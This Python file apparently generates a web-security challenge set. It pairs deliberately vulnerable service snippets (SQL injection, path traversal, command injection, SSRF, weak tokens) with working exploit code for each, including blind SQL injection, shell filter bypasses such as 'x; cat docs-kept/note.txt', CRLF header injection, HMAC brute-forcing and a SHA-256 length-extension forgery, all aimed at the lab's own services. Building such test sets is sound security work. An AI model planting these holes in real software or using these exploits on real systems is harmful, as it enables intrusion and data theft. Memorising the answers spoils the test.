"""Five classes of errors of web services, five steps each, with what exploits them."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Wrong:
    """One way to be wrong, and lines of Python that get the flag by it.

    The lines have `get(path, **query)`, `post(path, body)` and `token`, see `tasks`; they
    set `found`.
    """

    name: str
    slots: Mapping[str, str]
    exploit: str


_LOOKS = """
    rows = ask("SELECT name, place FROM $things WHERE name LIKE '%" + word
               + "%' ORDER BY name")
    return "\\n".join("%s, %s" % row for row in rows)
"""
_COUNTS = """
    rows = ask("SELECT count(*) FROM $things WHERE name LIKE '%" + word + "%'")
    return "%d found" % rows[0][0]
"""
_BLIND = """
def told(test):
    return not wrapped(test).startswith("0 ")

found = ""
if told("1=1") and not told("1=2"):
    while len(found) < 60 and not found.endswith("}"):
        low, high = 32, 127
        while low + 1 < high:
            middle = (low + high) // 2
            at = "(SELECT unicode(substr(note,%d,1)) FROM vault)" % (len(found) + 1)
            if told("%s<%d" % (at, middle)):
                high = middle
            else:
                low = middle
        found += chr(low)
"""

SQL = (
    Wrong(
        "sql-plain",
        {"search": _LOOKS},
        """
found = get("/$search_path", q="zz' UNION SELECT note, 1 FROM vault WHERE '1' LIKE '")
""",
    ),
    Wrong(
        "sql-listed-words",
        {
            "search": """
    for bad in ("UNION", "union", "SELECT", "select", "--", "/*"):
        if bad in word:
            raise Refused("that is no name")
"""
            + _LOOKS
        },
        """
found = get("/$search_path", q="zz' UnIoN SeLeCt note, 1 FROM vault WHERE '1' LIKE '")
""",
    ),
    Wrong(
        "sql-counts",
        {
            "search": """
    if re.search(r"union|--|/\\*|;", word, re.IGNORECASE):
        raise Refused("that is no name")
"""
            + _COUNTS
        },
        """
def wrapped(test):
    return get("/$search_path", q="zz' OR (%s) AND '1' LIKE '" % test)
"""
        + _BLIND,
    ),
    Wrong(
        "sql-second-order",
        {
            "mark": """
    if len(who) > 40 or len(word) > 200:
        raise Refused("that is too long")
    if re.search(r"\\s|union|--|;", word, re.IGNORECASE):
        raise Refused("that is no word")
""",
            "marked": _COUNTS,
        },
        """
def wrapped(test):
    word = "zz' OR (%s) AND '1' LIKE '" % test
    get("/mark", who="x", word=word.replace(" ", "/**/"))
    return get("/marked", who="x")
"""
        + _BLIND,
    ),
    Wrong(
        "sql-cut-escape",
        {
            "narrow": """
    name = name.replace("'", "''")[:40]
    place = place.replace("'", "''")
    rows = ask("SELECT count(*) FROM $things WHERE name LIKE '%" + name
               + "%' AND place LIKE '%" + place + "%'")
    return "%d found" % rows[0][0]
"""
        },
        """
def wrapped(test):
    return get("/narrow", name="z" * 39 + "'", place="1 OR (%s)--" % test)
"""
        + _BLIND,
    ),
)

FILES = (
    Wrong(
        "file-plain",
        {"document": "\n    path = os.path.join(DOCS, name)\n"},
        'found = get("/doc", name="../docs-kept/note.txt")\n',
    ),
    Wrong(
        "file-stripped-once",
        {
            "document": """
    path = os.path.join(DOCS, name.replace("../", "").lstrip("/"))
"""
        },
        'found = get("/doc", name="....//docs-kept/note.txt")\n',
    ),
    Wrong(
        "file-decoded-again",
        {
            "document": """
    if ".." in name or name.startswith("/"):
        raise Refused("that is no document")
    path = os.path.join(DOCS, unquote(name))
"""
        },
        'found = get("/doc", name="%2e%2e/docs-kept/note.txt")\n',
    ),
    Wrong(
        "file-prefix",
        {
            "document": """
    path = os.path.realpath(os.path.join(DOCS, name))
    if not path.startswith(DOCS) or name.startswith((".", "/")):
        raise Refused("that is no document")
"""
        },
        'found = get("/doc", name="x/../../docs-kept/note.txt")\n',
    ),
    Wrong(
        "file-links",
        {
            "members": "member.isfile() or member.issym()",
            "document": """
    path = os.path.normpath(os.path.join(DOCS, name))
    if os.path.commonpath([path, DOCS]) != DOCS:
        raise Refused("that is no document")
""",
        },
        """
import io, tarfile
into = io.BytesIO()
with tarfile.open(fileobj=into, mode="w") as archive:
    member = tarfile.TarInfo("more")
    member.type, member.linkname = tarfile.SYMTYPE, "../docs-kept"
    archive.addfile(member)
post("/docs", into.getvalue())
found = get("/doc", name="more/note.txt")
""",
    ),
)

_SHELL = """
    done = subprocess.run("sh probe.sh " + host, shell=True, capture_output=True,
                          timeout=5)
"""
_SAYS = _SHELL + '    return done.stdout.decode("utf-8", "replace")\n'

COMMANDS = (
    Wrong(
        "command-plain",
        {"probe": _SAYS},
        'found = get("/probe", host="x; cat docs-kept/note.txt")\n',
    ),
    Wrong(
        "command-listed-signs",
        {
            "probe": """
    if any(sign in host for sign in ";|&"):
        raise Refused("that is no host")
"""
            + _SAYS
        },
        'found = get("/probe", host="x$(cat docs-kept/note.txt)")\n',
    ),
    Wrong(
        "command-lines",
        {
            "probe": """
    if not re.search(r"^[a-z0-9.-]{1,60}$", host, re.MULTILINE):
        raise Refused("that is no host")
    if any(sign in host for sign in ";|&`$<>()"):
        raise Refused("that is no host")
"""
            + _SAYS
        },
        'found = get("/probe", host="x\\ncat docs-kept/note.txt")\n',
    ),
    Wrong(
        "command-no-spaces",
        {
            "probe": """
    if not re.match(r"[a-z0-9.-]{1,60}", host) or re.search(r"[\\s/|&`<>()]", host):
        raise Refused("that is no host")
"""
            + _SAYS
        },
        'found = get("/probe", host="x;cd${IFS}docs-kept;cat${IFS}note.txt")\n',
    ),
    Wrong(
        "command-silent",
        {
            "probe": """
    if not re.match(r"[a-z0-9.-]{1,60}", host) or re.search(r"[\\s/|&`<>()]", host):
        raise Refused("that is no host")
"""
            + _SHELL
            + '    return "known" if b"is known" in done.stdout else "not known"\n'
        },
        """
get("/probe", host="x;D=${PWD%%j*};cp${IFS}docs-kept${D}note.txt${IFS}docs")
found = get("/doc", name="note.txt")
""",
    ),
)

_FOLLOWS = """
    for _ in range(4):
        head, body = fetched(parts.hostname, parts.port or 80, unquote(parts.path)
                             + ("?" + parts.query if parts.query else ""))
        moved = re.search(r"^Location: (.*)$", head, re.MULTILINE)
        if not moved:
            return body
        parts = urlsplit(moved.group(1).strip())
    raise Refused("it moves about")
"""
_PARTNER = """
    parts = urlsplit(url)
    if parts.scheme != "http" or parts.netloc != "feed.local:%d" % FEED:
        raise Refused("that is no partner")
"""

FETCHES = (
    Wrong(
        "fetch-any",
        {
            "fetch": """
    parts = urlsplit(url)
    return fetched(parts.hostname, parts.port or 80, parts.path)[1]
"""
        },
        'found = get("/fetch", url="http://127.0.0.1:$inner/note")\n',
    ),
    Wrong(
        "fetch-listed-names",
        {
            "fetch": """
    parts = urlsplit(url)
    if parts.hostname in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
        raise Refused("that is no partner")
    return fetched(parts.hostname, parts.port or 80, parts.path)[1]
"""
        },
        'found = get("/fetch", url="http://127.1:$inner/note")\n',
    ),
    Wrong(
        "fetch-prefix",
        {
            "fetch": """
    if not url.startswith("http://feed.local"):
        raise Refused("that is no partner")
    parts = urlsplit(url)
    return fetched(parts.hostname, parts.port or 80, parts.path)[1]
"""
        },
        'found = get("/fetch", url="http://feed.local:x@127.0.0.1:$inner/note")\n',
    ),
    Wrong(
        "fetch-redirected",
        {"fetch": _PARTNER + _FOLLOWS},
        """
from urllib.parse import quote
to = quote("http://127.0.0.1:$inner/note", safe="")
found = get("/fetch", url="http://feed.local:$feed/go?to=" + to)
""",
    ),
    Wrong(
        "fetch-redirected-lines",
        {
            "fetch": _PARTNER + _FOLLOWS,
            "desk": ' and self.headers.get("X-Desk") == "$desk_word"',
        },
        """
from urllib.parse import quote
inner = "/note" + quote(" HTTP/1.0\\r\\nX-Desk: $desk_word\\r\\nX-Rest: ")
to = quote("http://127.0.0.1:$inner" + inner, safe="")
found = get("/fetch", url="http://feed.local:$feed/go?to=" + to)
""",
    ),
)

_TOKENS_PLAIN = '''
def signed(said):
    return hashlib.sha256(SECRET + said).hexdigest()


def issued(number, user):
    said = urlencode({"id": number, "name": user["name"], "role": user["role"]}).encode()
    return base64.urlsafe_b64encode(said).decode() + "." + signed(said)


def known(token):
    """Return who has a token; nobody where it is not ours."""
    said, _, seal = token.partition(".")
    said = base64.urlsafe_b64decode(said or "")
    if not hmac.compare_digest(signed(said).encode(), seal.encode()):
        return {}
    return dict(parse_qsl(said.decode("latin-1")))
'''
_TOKENS_KIND = '''
def signed(said, kind):
    if kind == "plain":
        return ""
    return hmac.new(SECRET, said, hashlib.sha256).hexdigest()


def issued(number, user):
    said = base64.urlsafe_b64encode(urlencode(
        {"id": number, "name": user["name"], "role": user["role"], "kind": "hs"}).encode())
    return said.decode() + "." + signed(said, "hs")


def known(token):
    """Return who has a token; nobody where it is not ours."""
    said, _, seal = token.partition(".")
    who = dict(parse_qsl(base64.urlsafe_b64decode(said).decode("latin-1")))
    wanted = signed(said.encode(), who.get("kind", "hs"))
    return who if hmac.compare_digest(wanted.encode(), seal.encode()) else {}
'''

_EXTEND = """
import base64, hashlib, math, struct

def rotated(x, n):
    return (x >> n | x << (32 - n)) & 0xFFFFFFFF

primes = [n for n in range(2, 312) if all(n % m for m in range(2, n))]

def root(n):
    low, high = 0, 1 << 40
    while low + 1 < high:
        middle = (low + high) // 2
        low, high = (middle, high) if middle ** 3 <= n << 96 else (low, middle)
    return low & 0xFFFFFFFF

K = [root(n) for n in primes]

def squeezed(state, block):
    w = list(struct.unpack(">16I", block))
    for i in range(16, 64):
        a, b = w[i - 15], w[i - 2]
        s0 = rotated(a, 7) ^ rotated(a, 18) ^ a >> 3
        s1 = rotated(b, 17) ^ rotated(b, 19) ^ b >> 10
        w.append((w[i - 16] + s0 + w[i - 7] + s1) & 0xFFFFFFFF)
    a, b, c, d, e, f, g, h = state
    for i in range(64):
        s1 = rotated(e, 6) ^ rotated(e, 11) ^ rotated(e, 25)
        t1 = (h + s1 + (e & f ^ ~e & g) + K[i] + w[i]) & 0xFFFFFFFF
        s0 = rotated(a, 2) ^ rotated(a, 13) ^ rotated(a, 22)
        t2 = (s0 + (a & b ^ a & c ^ b & c)) & 0xFFFFFFFF
        e, f, g, h = (d + t1) & 0xFFFFFFFF, e, f, g
        a, b, c, d = (t1 + t2) & 0xFFFFFFFF, a, b, c
    return [(x + y) & 0xFFFFFFFF for x, y in zip(state, (a, b, c, d, e, f, g, h))]

def glue(size):
    return b"\\x80" + b"\\0" * ((55 - size) % 64) + struct.pack(">Q", 8 * size)

said, _, seal = token("extender").partition(".")
said, more = base64.urlsafe_b64decode(said), b"&role=admin"
for length in range(8, 33):
    start = said + glue(length + len(said))
    whole = length + len(start) + len(more)
    rest = more + glue(whole)
    state = list(struct.unpack(">8I", bytes.fromhex(seal)))
    for at in range(0, len(rest), 64):
        state = squeezed(state, rest[at : at + 64])
    forged = base64.urlsafe_b64encode(start + more).decode()
    forged += "." + struct.pack(">8I", *state).hex()
    found = get("/admin/note", headers={"X-Token": forged})
    if "FLAG" in found:
        break
"""

ACCOUNTS = (
    Wrong(
        "account-by-number",
        {
            "profile": """
    if not who:
        raise Refused("sign in first")
    user = USERS.get(int(query.get("id", who["id"])), {})
    note = NOTE if user.get("role") == "admin" else ""
    return "%s, %s %s" % (user.get("name"), user.get("role"), note)
"""
        },
        'found = get("/me", id="1", headers={"X-Token": token("looker")})\n',
    ),
    Wrong(
        "account-role-given",
        {
            "register": """
    user.update({key: value for key, value in asked.items() if key in user})
"""
        },
        """
post("/register", '{"name": "riser", "password": "p", "role": "admin"}'.encode())
seen = post("/login", '{"name": "riser", "password": "p"}'.encode())
found = get("/admin/note", headers={"X-Token": seen})
""",
    ),
    Wrong(
        "account-kind-of-token",
        {"tokens": _TOKENS_KIND},
        """
import base64
said = base64.urlsafe_b64encode(b"id=1&name=keeper&role=admin&kind=plain").decode()
found = get("/admin/note", headers={"X-Token": said + "."})
""",
    ),
    Wrong(
        "account-short-secret",
        {"secret": 'b"%04d" % secrets.randbelow(10_000)'},
        """
import base64, hashlib, hmac
said, _, seal = token("guesser").partition(".")
found = ""
for number in range(10_000):
    secret = b"%04d" % number
    if hmac.new(secret, said.encode(), hashlib.sha256).hexdigest() == seal:
        mine = base64.urlsafe_b64encode(b"id=1&name=keeper&role=admin")
        seal = hmac.new(secret, mine, hashlib.sha256).hexdigest()
        found = get("/admin/note", headers={"X-Token": mine.decode() + "." + seal})
        break
""",
    ),
    Wrong(
        "account-extended-hash",
        {
            "tokens": _TOKENS_PLAIN,
            "secret": "secrets.token_bytes(8 + secrets.randbelow(24))",
        },
        _EXTEND,
    ),
)

CLASSES = {
    "SQL injection": SQL,
    "path traversal": FILES,
    "command injection": COMMANDS,
    "server-side request forgery": FETCHES,
    "authorisation": ACCOUNTS,
}
WEAKNESS = {
    "SQL injection": "CWE-89",
    "path traversal": "CWE-22",
    "command injection": "CWE-78",
    "server-side request forgery": "CWE-918",
    "authorisation": "CWE-863",
}
